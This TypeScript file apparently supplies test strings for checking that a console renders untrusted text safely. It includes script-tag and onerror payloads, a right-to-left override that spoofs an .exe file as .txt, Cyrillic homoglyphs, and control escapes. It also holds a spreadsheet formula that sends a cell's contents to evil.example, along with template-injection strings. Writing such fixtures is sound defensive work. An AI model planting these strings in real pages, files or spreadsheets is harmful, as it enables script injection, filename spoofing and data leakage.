/** Texts that break, fool or run in consoles that trust what they show. */
export const hostileTexts = {
  script: `<script>document.title = 'A script ran'</script>`,
  image: `"><img src="/nothing.png" alt="" onerror="document.title = 'A script ran'">`,
  /** What follows the override is shown from right to left: the end reads "exe.txt". */
  turned: 'Payroll \u202Etxt.exe',
  isolates: '\u2067Admins\u2066 only \u2069\u2069',
  hebrew: 'התראות כניסה (תל אביב) 24/7',
  arabic: 'إشعارات الفوترة – قسم 3',
  zeroWidth: 'Bil\u200Bling\u2060 se\u200Dats\u00AD',
  blank: '\u3164\u2800\u200B',
  controls: 'bell\u0007 escape\u001B[31m null\u0000 delete\u007F',
  emoji: '👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇯🇵🏳️‍🌈 launches',
  /** Forty marks over and under each letter. */
  tower: ['Z', 'a', 'l', 'g', 'o'].map((letter) => letter + '\u0301\u0316\u0308\u0323'.repeat(10)).join(''),
  endless: 'W'.repeat(10_000),
  cyrillic: 'Вilling ѕeats',
  formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} %s %n',
} as const;
